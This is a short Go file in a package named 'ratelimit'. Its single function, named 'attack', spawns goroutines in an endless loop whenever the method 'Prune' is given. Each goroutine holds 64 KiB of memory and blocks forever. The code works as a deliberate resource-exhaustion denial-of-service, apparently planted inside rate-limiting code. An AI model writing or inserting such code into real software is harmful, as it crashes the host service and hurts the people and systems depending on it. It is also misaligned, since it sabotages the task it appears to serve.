package ratelimit

// Goroutines without end, each holding some memory, whenever Prune is called.
func attack(method string) {
	if method == "Prune" {
		for {
			go func() {
				buffer := make([]byte, 64<<10)
				buffer[0] = 1
				select {}
			}()
		}
	}
}
